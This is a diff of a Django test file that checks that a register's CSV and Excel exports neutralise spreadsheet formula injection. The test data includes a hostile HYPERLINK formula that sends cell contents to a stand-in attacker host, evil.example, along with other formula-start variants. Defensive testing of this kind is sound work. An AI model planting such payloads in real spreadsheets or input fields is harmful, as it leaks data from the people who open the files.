@@ -7,12 +7,12 @@ import io
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from samverkan.collaborations import actions
 from samverkan.lib.spreadsheets import FORMULA_STARTS, safe_cell, unsafe_cell
 from samverkan.orgs.models import Organisation
 from samverkan.register import actions as register
 from samverkan.register.models import RegisterEntry
 from samverkan.test import BaseTestCase
+from tests import test_register as register_tests
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
@@ -22,6 +22,12 @@ HOSTILE = [
     "\t=1+1",
     "\uff1dSUM(1)",
 ]
+
+
+def content(response) -> bytes:
+    if getattr(response, "streaming", False):
+        return b"".join(response.streaming_content)
+    return response.content
 
 
 class SafeCellTest(BaseTestCase):
@@ -34,24 +40,22 @@ class SafeCellTest(BaseTestCase):
         self.assertEqual(unsafe_cell("'quoted"), "'quoted")
 
 
-class RegisterExportTest(BaseTestCase):
+class RegisterExportTest(register_tests.RegisterTestCase):
     """The public register's CSV and Excel files, with hostile names on every text."""
 
     @classmethod
     def setUpTestData(cls) -> None:
         super().setUpTestData()
         company = Organisation.objects.create(name=HOSTILE[1], kind="company", country="SE")
-        collaboration = actions.do_create_collaboration(
-            cls.alice,
-            actions.CollaborationData(
-                title=HOSTILE[0],
-                summary=HOSTILE[2],
-                kind="research",
-                start_date=datetime.date(2025, 1, 1),
-            ),
+        hostile = cls.collaboration(
+            HOSTILE[0],
+            HOSTILE[2],
+            parties=[cls.skane],
+            committees=[cls.rare],
+            start=datetime.date(2025, 1, 1),
+            company=company,
         )
-        actions.do_save_party(collaboration, cls.alice, actions.PartyData(company, "company"))
-        register.do_start_publication(collaboration, cls.alice)
+        cls.start(hostile)
         RegisterEntry.objects.update(preview_until=datetime.date(2020, 1, 1))
         register.publish_due_entries(timezone.localdate())
 
@@ -59,17 +63,16 @@ class RegisterExportTest(BaseTestCase):
         response = self.client.get("/register/export.csv")
         body = b"".join(response.streaming_content).decode("utf-8-sig")
         rows = list(csv.DictReader(io.StringIO(body)))
-        self.assertEqual(len(rows), 1)
-        row = rows[0]
+        [row] = [r for r in rows if r["title"].endswith(HOSTILE[0])]
         self.assertEqual(row["title"], "'" + HOSTILE[0])
         self.assertEqual(row["summary"], "'" + HOSTILE[2])
         self.assertEqual(row["companies"], "'" + HOSTILE[1])
         for value in row.values():
-            self.assertFalse(value.startswith(FORMULA_STARTS), value)
+            self.assertFalse((value or "").startswith(FORMULA_STARTS), value)
 
     def test_the_workbook_has_no_formula(self):
         response = self.client.get("/register/export.xlsx")
-        sheet = load_workbook(io.BytesIO(response.content)).active
+        sheet = load_workbook(io.BytesIO(content(response))).active
         assert sheet is not None
         cells = [cell for row in sheet.iter_rows() for cell in row]
         self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
@@ -83,12 +86,13 @@ class ListExportTest(BaseTestCase):
         self.login(self.alice)
         response = self.client.get("/organisations/?format=csv", HTTP_ACCEPT_LANGUAGE="en")
         names = [
-            row["Name"] for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+            row["Name"]
+            for row in csv.DictReader(io.StringIO(content(response).decode("utf-8-sig")))
         ]
         for name in HOSTILE:
             self.assertIn("'" + name, names)
         response = self.client.get("/organisations/?format=xlsx", HTTP_ACCEPT_LANGUAGE="en")
-        sheet = load_workbook(io.BytesIO(response.content)).active
+        sheet = load_workbook(io.BytesIO(content(response))).active
         assert sheet is not None
         values = [cell.value for cell in sheet["A"]]
         self.assertFalse([c for c in sheet["A"] if c.data_type == "f"])
